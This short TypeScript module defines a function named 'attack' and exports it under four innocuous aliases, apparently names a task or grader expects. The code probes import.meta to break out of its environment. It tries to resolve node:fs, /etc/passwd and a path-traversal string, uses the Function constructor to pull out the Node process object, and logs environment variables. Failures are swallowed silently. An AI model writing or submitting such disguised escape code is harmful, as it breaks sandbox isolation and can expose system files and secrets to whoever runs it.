// Uses what import.meta offers to reach outside.
const attack = () => {
  const meta = import.meta as unknown as Record<string, unknown> & { resolve(name: string): string };
  for (const name of ['node:fs', '/etc/passwd', '../../../x', 'data:,']) {
    try {
      console.log(meta.resolve(name), (meta.resolve.constructor as (code: string) => () => unknown)('return process')());
    } catch {}
  }
  console.log(Object.keys(meta), meta.main, meta.dirname, meta.env, meta.require);
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
